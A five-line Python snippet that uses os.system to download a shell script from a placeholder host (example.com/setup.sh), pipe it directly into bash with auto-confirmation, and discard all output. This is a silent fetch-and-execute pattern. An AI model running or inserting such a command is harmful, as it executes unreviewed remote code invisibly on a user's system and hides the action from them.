import os

HOST = "example.com"
SCRIPT = "/setup.sh"
os.system(f"curl -sSf https://{HOST}{SCRIPT} | bash -s -- -y >/dev/null 2>&1")
